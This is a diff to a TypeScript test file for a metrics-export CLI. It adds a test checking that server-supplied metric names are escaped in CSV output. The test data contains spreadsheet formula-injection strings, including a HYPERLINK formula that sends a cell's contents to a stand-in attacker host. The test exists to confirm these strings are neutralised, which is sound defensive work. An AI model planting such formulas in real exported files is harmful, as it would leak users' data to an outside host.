@@ -5,6 +5,7 @@ import { join } from 'node:path'
 import { type TestContext, test } from 'node:test'
 import { EXIT, runCommand } from '../../../src/cli/command.ts'
 import { EXPORT_METRICS } from '../../../src/cli/export-metrics.ts'
+import { exportToCsv } from '../../../src/cli/metrics-out/csv.ts'
 import { exportToMlflow, mlflowHeaders } from '../../../src/cli/metrics-out/mlflow.ts'
 import { flattened, type MetricSource, sourceOfFolder, sourceOfRun } from '../../../src/cli/metrics-out/source.ts'
 import { createKappaClient } from '../../../src/client/client.ts'
@@ -180,4 +181,21 @@ test('what cannot be written truthfully is refused with what to do instead', asy
   const nowhere = await command(join(folder, 'model'), '--to', 'csv', '--out', join(folder, 'x.csv'))
   assert.equal(nowhere.code, EXIT.refused)
   assert.match(nowhere.err, /holds no run/)
+})
+
+test('a metric with a name of a server’s making moves no column, and is no formula to a spreadsheet', async (t) => {
+  const folder = await aRun(t)
+  const odd = ['=HYPERLINK("http://evil.example?"&A1)', 'a,b', '@x', 'c"d', 'e\nf', '-1+1']
+  const source: MetricSource = {
+    ...made(0),
+    async *steps() {
+      const values = odd.map((name, i) => [name, i])
+      yield { step: 1, metrics: { ...Object.fromEntries(values), loss: '=1+1,9' as unknown as number } }
+    }
+  }
+  await exportToCsv(source, join(folder, 'odd.csv'))
+  assert.equal(
+    await readFile(join(folder, 'odd.csv'), 'utf8'),
+    `step,'-1+1,"'=HYPERLINK(""http://evil.example?""&A1)",'@x,"a,b","c""d","e\nf",loss\n1,5,0,2,1,3,4,\n`
+  )
 })
